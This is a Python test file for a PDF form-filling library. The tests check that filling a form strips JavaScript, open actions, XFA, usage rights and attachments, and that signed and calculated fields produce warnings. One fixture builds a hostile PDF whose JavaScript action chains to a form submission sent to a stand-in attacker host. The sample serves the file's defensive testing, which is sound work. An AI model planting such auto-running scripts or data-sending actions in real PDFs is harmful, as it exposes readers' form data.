"""What may act by itself is taken out; what may mislead is told."""

from __future__ import annotations

import io

from konbit.papers.pdf.compiled import compile_form


def test_active_content_usage_rights_and_xfa_are_out_of_reach(build, text, sound):
    from pypdf import PdfReader

    script = b"<</S/JavaScript/JS(x\\(\\))/Next<</S/SubmitForm/F(http://evil.example)>>>>"
    data = build(
        text(more=b"/AA<</K<</S/JavaScript/JS(k)>>>>/A 9 0 R"),
        b"/Type/Annot/Subtype/FileAttachment/Parent 3 0 R/Rect[0 0 9 9]/FS<</EF<</F 9 0 R>>>>",
        form=b"/XFA(<xdp/>)/NeedAppearances true/CO[7 0 R]",
        catalog=b"/OpenAction 9 0 R/AA<</WC 9 0 R>>/Names<</JavaScript<</Names[(a) 9 0 R]>>/Dests<<>>>>"
        b"/Perms<</UR3<<>>>>/NeedsRendering true",
        page=b"/AA<</O 9 0 R>>",
        extra=(script,),
    )
    filled = compile_form(data).fill({"nombre": "Ana"}).data
    sound(filled)
    root = PdfReader(io.BytesIO(filled)).trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/Perms", "/NeedsRendering"} & set(root)
    assert set(root["/Names"]) == {"/Dests"}
    assert not {"/XFA", "/NeedAppearances", "/CO"} & set(root["/AcroForm"])
    page = root["/Pages"]["/Kids"][0]
    assert "/AA" not in page
    (only,) = page["/Annots"]
    assert not {"/AA", "/A"} & set(only.get_object())
    assert compile_form(filled).active == ()


def test_a_signed_form_is_filled_with_a_warning(build, text):
    data = build(
        text(), b"/FT/Sig/T(firma)/Subtype/Widget/Rect[0 0 9 9]/V<</Type/Sig/Contents(x)/ByteRange[0 1 2 3]>>"
    )
    (warning,) = compile_form(data).fill({"nombre": "Ana"}).warnings
    assert "firmado" in str(warning)


def test_a_calculated_field_left_empty_is_told(build, text):
    data = build(text(), text("total", rect=b"20 100 220 120"), form=b"/CO[8 0 R]")
    form = compile_form(data)
    (warning,) = form.fill({"nombre": "Ana"}).warnings
    assert "«total»" in str(warning)
    assert not form.fill({"nombre": "Ana", "total": "5"}).warnings
